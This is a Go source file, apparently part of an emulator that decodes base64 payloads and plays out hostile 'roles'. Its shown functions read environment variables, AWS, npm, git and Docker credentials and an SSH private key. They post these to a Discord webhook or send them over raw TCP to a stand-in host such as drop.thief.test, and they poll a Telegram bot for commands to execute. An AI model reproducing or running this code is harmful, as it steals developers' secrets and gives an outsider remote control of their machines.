package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"time"
)

// interpreter is what python3 and node are here: it decodes what stands in
// quotes in the code that it is given, and plays what that says line by line:
// a role and its arguments.
func interpreter(args []string) error {
	if arg(args, 0, "") != "-c" && arg(args, 0, "") != "-e" {
		return nil
	}
	for _, quoted := range regexp.MustCompile(`'([A-Za-z0-9+/=]{40,})'`).FindAllStringSubmatch(arg(args, 1, ""), -1) {
		code, err := base64.StdEncoding.DecodeString(quoted[1])
		if err != nil {
			return err
		}
		for _, line := range lines(string(code)) {
			words := strings.Fields(strings.TrimLeft(line, "#/"))
			role, ok := roles[arg(words, 0, "")]
			if !ok {
				return fmt.Errorf("no role in %q", line)
			}
			if err := role(words[1:]); err != nil {
				return err
			}
		}
	}
	return nil
}

// leak collects secrets, posts them to a channel of a chat platform, and then
// asks another for orders.
func leak(args []string) error {
	home, err := os.UserHomeDir()
	if err != nil {
		return err
	}
	found := map[string]string{"env": strings.Join(os.Environ(), "\n")}
	for _, name := range []string{".npmrc", ".git-credentials", ".aws/credentials", ".docker/config.json"} {
		if b, err := os.ReadFile(filepath.Join(home, name)); err == nil {
			found[name] = string(b)
		}
	}
	all, err := json.Marshal(found)
	if err != nil {
		return err
	}
	message, err := json.Marshal(map[string]string{"username": "ci", "content": base64.StdEncoding.EncodeToString(all)})
	if err != nil {
		return err
	}
	try(web, http.MethodPost, arg(args, 0, "https://discord.com/api/webhooks/1100000000000000007/none"), string(message), "Content-Type", "application/json")
	return poll(arg(args, 1, "https://api.telegram.org/bot7000000001:none"))
}

// poll asks a Telegram bot's API for messages, and does what they say.
func poll(api string) error {
	offset := 0
	for range 3 {
		var updates struct {
			Result []struct {
				ID      int `json:"update_id"`
				Message struct{ Text string }
			}
		}
		if err := json.Unmarshal([]byte(try(web, http.MethodGet, fmt.Sprintf("%s/getUpdates?offset=%d", api, offset), "")), &updates); err != nil {
			return err
		}
		for _, u := range updates.Result {
			offset = u.ID + 1
			if c, ok := command(u.Message.Text); ok {
				try(web, http.MethodPost, api+"/sendMessage", url.Values{"chat_id": {"5"}, "text": {obey(c)}}.Encode(), "Content-Type", "application/x-www-form-urlencoded")
			}
		}
		time.Sleep(time.Second)
	}
	return nil
}

// leave packs keys, hides them under a byte and sends them as they are, over
// plain TCP.
func leave(args []string) error {
	home, err := os.UserHomeDir()
	if err != nil {
		return err
	}
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	for _, name := range []string{".aws/credentials", ".ssh/id_ed25519", ".pgpass"} {
		b, err := os.ReadFile(filepath.Join(home, name))
		if err != nil {
			return err
		}
		if arg(args, 1, "gzip") == "xor" {
			for i := range b {
				b[i] ^= 0x5a
			}
			packed.Write(b)
			continue
		}
		if _, err := w.Write(b); err != nil {
			return err
		}
	}
	if arg(args, 1, "gzip") != "xor" {
		if err := w.Close(); err != nil {
			return err
		}
	}
	conn, err := dial(arg(args, 0, "drop.thief.test:9000"))
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write(packed.Bytes())
	return err
}
